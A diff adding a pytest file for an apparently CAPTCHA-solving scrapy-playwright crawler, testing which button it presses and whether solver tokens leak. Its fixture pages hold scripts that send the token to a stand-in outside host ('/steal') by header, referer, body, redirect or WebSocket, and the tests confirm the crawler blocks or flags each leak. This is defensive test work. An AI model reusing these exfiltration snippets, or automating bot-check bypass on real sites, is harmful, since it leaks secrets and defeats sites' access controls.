@@ -1,0 +1,294 @@
+"""What a browser presses, calls and sends at a wall: the widget's own button, once, or nothing, counted at the site.
+
+Each page is asked for in one crawl, at a site of its own: a browser takes longer to start than to show a page.
+"""
+
+import asyncio
+
+import pytest
+from aiohttp import web
+from scrapy_playwright.page import PageMethod
+
+from tests.browser.crawling import Case, CasesSpider
+from tests.browser.test_odd_pages import ACCEPTED, CALLBACK, ELSEWHERE, FIELD, GOOGLE, PAGE, SEND, WIDGET, at, clear
+from tests.helpers import sites
+
+SAYS = "<title>Access denied</title><h1>Confirm that you are not a robot to see this page</h1>"
+LOG_OUT = "<header><form method=post action=/deed><button>Log out</button></form></header>"
+SHOW = "send(token).then(() => location.reload())"
+
+
+def wall(body, callback="", *, head="", answer=None):
+    """Return what makes a site whose wall has ``body``, and opens for any request to /verify that holds a token.
+
+    :param callback: what the function ``passed(token)`` does.
+    :param answer: answers other requests, if it returns something.
+    """
+
+    async def respond(request, form):
+        given = None if answer is None else answer(request, form)
+        if given is not None:
+            return await given if asyncio.iscoroutine(given) else given
+        if request.path == "/verify":
+            is_token = form.get(FIELD) or request.headers.get("X-Token") or request.query_string
+            return clear(sites.redirect("/page/1", 303)) if is_token else sites.page("no", 400)
+        if request.path in DEEDS:
+            return sites.page(f"done: {request.path}")
+        if sites.cleared(request):
+            return sites.page(PAGE)
+        script = f"<script>{SEND} function passed(token) {{ {callback} }}</script>"
+        return sites.page(f"{head}{SAYS}{body}{script}{GOOGLE}", 403)
+
+    return at(respond, ELSEWHERE)
+
+
+DEEDS = ("/deed", "/ad", "/opaque", "/steal", "/favicon.ico")
+
+
+def counted(case, path, method=None):
+    """Return how often a path was asked for at a site."""
+    return [
+        (asked, target)
+        for asked, target, *_ in case.site.requests
+        if target.partition("?")[0] == path and method in (None, asked)
+    ]
+
+
+# What is pressed
+
+WORDLESS = "<button onclick=\"fetch('/deed')\"></button>"
+OUTSIDE = f"{LOG_OUT}<main>{CALLBACK}{WORDLESS}</main>"
+OPENING = {
+    "a callback that sends after 1.5 s": wall(OUTSIDE, f"setTimeout(() => {SHOW}, 1500)"),
+    "a callback that sends in a header": wall(
+        OUTSIDE, "fetch('/verify', {headers: {'X-Token': token}}).then(() => location.reload())"
+    ),
+    "a callback that sends encoded": wall(OUTSIDE, "fetch('/verify?' + btoa(token)).then(() => location.reload())"),
+    "a callback that sends after 2 s beside its form": wall(
+        f"<form method=post action=/deed>{CALLBACK}<button>Continue</button></form>", f"setTimeout(() => {SHOW}, 2000)"
+    ),
+    "a callback that sends encoded beside its form": wall(
+        f"<form method=post action=/deed>{CALLBACK}<button>Continue</button></form>",
+        "fetch('/verify?' + btoa(token)).then(() => setTimeout(() => location.reload(), 4000))",
+    ),
+    "a newsletter with the same key and address": wall(
+        f"<header><form method=post><input type=hidden name=news value=1>{WIDGET}<button>Subscribe</button></form>"
+        f"</header><form method=post>{WIDGET}<button>Continue</button></form>",
+        answer=lambda request, form: (
+            sites.page("Thank you for subscribing")
+            if form.get("news")
+            else clear(sites.redirect("/page/1", 303))
+            if form
+            else None
+        ),
+    ),
+    "a button with an address of its own": wall(
+        f"<header><form method=post action=/deed>{WIDGET}<button>Subscribe</button></form></header>"
+        f"<form method=post action=/deed>{WIDGET}<button formaction=/verify>Continue</button></form>"
+    ),
+    "a button outside of its form": wall(
+        f"<form method=post action=/deed>{WIDGET}<button>Subscribe</button></form>"
+        f"<form id=check method=post action=/verify>{WIDGET}</form><button form=check name=go value=1>Continue</button>"
+    ),
+    "a window that it opens before it sends": wall(CALLBACK, f"window.open('/ad'); setTimeout(() => {SHOW}, 300)"),
+}
+OPENED = {name: Case(make=make) for name, make in OPENING.items()}
+
+NOTHING_TO_SEND = {
+    "no callback, and buttons of others": wall(f"{LOG_OUT}<main>{WIDGET}{WORDLESS}</main>"),
+    "a callback that does nothing": wall(OUTSIDE, "window.idle = token"),
+    "a callback that throws": wall(OUTSIDE, "throw new Error('no')"),
+    "a form that the page forbids": wall(
+        f"<form method=post action=/verify>{WIDGET}<button>Continue</button></form>",
+        head="<meta http-equiv=Content-Security-Policy content=\"form-action 'none'\">",
+    ),
+    "an encoded token that opens nothing": wall(OUTSIDE, "fetch('/opaque?' + btoa(token))"),
+}
+NOT_SEEN = {name: Case(make=make) for name, make in NOTHING_TO_SEND.items()}
+FREEZING = {
+    "a callback that never returns": wall(OUTSIDE, "while (true);"),
+    "a callback that never returns in a form": wall(
+        f"<form method=post action=/deed>{CALLBACK}<button>Continue</button></form>", "while (true);"
+    ),
+}
+FROZEN = {name: Case(make=make) for name, make in FREEZING.items()}
+
+# Where the token goes
+
+
+def elsewhere(script):
+    """Return a site whose callback sends something to another one; ``there`` is its address."""
+    return wall(f"{LOG_OUT}{CALLBACK}", f"const there = `//{ELSEWHERE}:${{location.port}}/steal`; {script}")
+
+
+def repeated(request, form):
+    """Answer a form by having its body sent to another site, which welcomes it."""
+    if request.path == "/verify":
+        return sites.redirect(f"http://{ELSEWHERE}:{request.url.port}/steal", 307)
+    if request.path == "/steal":
+        return sites.page("Welcome to another site")
+    return None
+
+
+async def socket(request, form):
+    connected = web.WebSocketResponse()
+    await connected.prepare(request)
+    async for _ in connected:
+        pass
+    return connected
+
+
+ELSEWHERE_BOUND = {
+    "a header": elsewhere("fetch(there, {headers: {'X-Token': token}})"),
+    "a referer": elsewhere(
+        "history.replaceState({}, '', '?t=' + token); fetch(there, {mode: 'no-cors', referrerPolicy: 'unsafe-url'})"
+    ),
+    "a body": elsewhere("fetch(there, {method: 'POST', mode: 'no-cors', body: token})"),
+}
+STOPPED = {name: Case(make=make) for name, make in ELSEWHERE_BOUND.items()}
+REPEATED = Case(
+    make=wall(f"<form method=post action=/verify>{WIDGET}<button>Continue</button></form>", answer=repeated)
+)
+SOCKET = Case(
+    make=wall(
+        f"{LOG_OUT}{CALLBACK}",
+        f"const it = new WebSocket(`ws://{ELSEWHERE}:${{location.port}}/socket`); it.onopen = () => it.send(token)",
+        answer=lambda request, form: socket(request, form) if request.path == "/socket" else None,
+    )
+)
+
+# What the spider does in its page
+
+FORM = f"<form method=post action=/verify>{WIDGET}<button>Continue</button></form>"
+
+
+def shop(*, behind=None, front=True):
+    """Return a shop whose page has a button Add, which sends a form, and a link; ``behind(request)`` answers both."""
+
+    def answer(request, form):
+        if request.path == "/verify" and form.get(FIELD):
+            target = form.get("next") or "/page/1"
+            cleared = sites.redirect(target, 303)
+            cleared.set_cookie("through" if form.get("next") else "clearance", "yes", path="/")
+            return cleared
+        if front and not sites.cleared(request):
+            return sites.page(f"{SAYS}{FORM}{GOOGLE}", 403)
+        if request.path in ("/add", "/more") and request.cookies.get("through") != "yes" and behind is not None:
+            return behind(request)
+        if request.path == "/add":
+            return sites.redirect("/cart", 303)
+        if request.path == "/page/1":
+            return sites.page(
+                f"{PAGE}<form method=post action=/add><button id=add>Add</button></form>"
+                "<a id=more href=/more onclick=\"navigator.sendBeacon('/clicked')\">More</a>"
+            )
+        return sites.page(f"<title>{request.path}</title><p class=cart>One lamp</p>")
+
+    return at(answer)
+
+
+def gate(request):
+    """Show a wall at the address that was asked for, which leads there."""
+    form = FORM.replace("<button", f"<input type=hidden name=next value={request.path}><button")
+    return sites.page(f"{SAYS}{form}{GOOGLE}", 403)
+
+
+def clicks(selector):
+    return [PageMethod("click", selector), PageMethod("wait_for_selector", ".cart", timeout=2000)]
+
+
+async def click_and_fail(page):
+    await page.click("#add")
+    await page.wait_for_selector(".cart")
+    raise LookupError("of the spider")
+
+
+def methods(*given):
+    return {"playwright_page_methods": list(given), "dont_retry": True}
+
+
+ADDS = Case(make=shop(), meta=methods(*clicks("#add")))
+FAILS = Case(make=shop(), meta=methods(PageMethod(click_and_fail)))
+WALL_BEHIND_LINK = Case(make=shop(front=False, behind=gate), meta=methods(*clicks("#more")))
+WALLS_ON_BOTH_SIDES = Case(make=shop(behind=gate), meta=methods(*clicks("#more")))
+WALL_BEHIND_POST = Case(make=shop(front=False, behind=gate), meta=methods(*clicks("#add")))
+
+CASES = [
+    *FROZEN.values(),
+    *NOT_SEEN.values(),
+    *OPENED.values(),
+    *STOPPED.values(),
+    *(REPEATED, SOCKET, ADDS, FAILS, WALL_BEHIND_LINK, WALLS_ON_BOTH_SIDES, WALL_BEHIND_POST),
+]
+
+
+@pytest.fixture(scope="session")
+def crawled(together):
+    """Ask for the page of each case."""
+    return together(CasesSpider, CASES, page_fails=True)
+
+
+@pytest.mark.parametrize("name", OPENED)
+def test_a_wall_opens_by_what_is_its_own_and_nothing_else_is_sent(crawled, name):
+    case = OPENED[name]
+    assert [page.css(".item::text").get() for page in case.pages] == ["Lamp"]
+    assert (case.bought, counted(case, "/deed")) == (1, [])
+    # Whatever is sent is sent once, and is no newsletter.
+    sent = [form for _, path, form, _ in case.site.requests if path.startswith("/verify") or form]
+    assert (len(sent), "news" in sent[0]) == (1, False)
+
+
+@pytest.mark.parametrize("name", NOT_SEEN)
+def test_a_page_that_sends_nothing_costs_one_job_and_says_so(crawled, name):
+    case = NOT_SEEN[name]
+    assert (case.pages, case.reasons, case.bought, case.jobs) == ([], ["not_seen"], 1, [("unknown", "not_seen")])
+    assert counted(case, "/deed") == []
+
+
+@pytest.mark.parametrize("name", FROZEN)
+def test_a_page_that_does_not_answer_any_more_is_closed_and_costs_one_job(crawled, name):
+    case = FROZEN[name]
+    assert (case.pages, case.reasons, case.bought, case.jobs) == ([], ["broke"], 1, [("unknown", "broke")])
+    assert counted(case, "/deed") == []
+
+
+@pytest.mark.parametrize("name", STOPPED)
+def test_no_request_takes_a_token_to_another_site_in_whatever_part(crawled, name):
+    case = STOPPED[name]
+    assert (case.reasons, case.bought) == (["foreign_form"], 1)
+    assert not [path for _, path, *_ in case.site.requests if path.startswith(("/steal", "/deed"))]
+
+
+@pytest.mark.parametrize("case", [REPEATED, SOCKET], ids=["307", "socket"])
+def test_what_cannot_be_stopped_is_noticed_and_what_comes_of_it_is_not_the_page(crawled, case):
+    assert (case.pages, case.reasons, case.bought, case.jobs) == (
+        [],
+        ["foreign_form"],
+        1,
+        [("unknown", "foreign_form")],
+    )
+
+
+def test_page_methods_run_once_in_the_page_that_a_token_has_brought(crawled):
+    assert len(counted(ADDS, "/add", "POST")) == 1
+    assert [page.css(".cart::text").get() for page in ADDS.pages] == ["One lamp"]
+    assert (ADDS.bought, ADDS.jobs) == (1, ACCEPTED)
+
+
+def test_an_error_of_a_page_method_behind_a_wall_is_that_of_the_spider(crawled):
+    assert len(counted(FAILS, "/add", "POST")) == 1
+    assert [str(error) for error in FAILS.failures] == ["of the spider"]
+    assert (FAILS.bought, FAILS.jobs) == (1, ACCEPTED)
+
+
+@pytest.mark.parametrize(("case", "jobs"), [(WALL_BEHIND_LINK, 1), (WALLS_ON_BOTH_SIDES, 2)], ids=["behind", "both"])
+def test_a_wall_behind_a_click_is_solved_for_what_it_leads_to_without_a_second_click(crawled, case, jobs):
+    assert [page.css(".cart::text").get() for page in case.pages] == ["One lamp"]
+    assert (case.bought, case.jobs) == (jobs, ACCEPTED * jobs)
+    assert len(counted(case, "/clicked")) == 1
+
+
+def test_a_wall_that_only_a_second_click_would_show_is_told(crawled):
+    case = WALL_BEHIND_POST
+    assert (case.pages, case.reasons, case.bought) == ([], ["behind_methods"], 0)
+    assert len(counted(case, "/add", "POST")) == 1
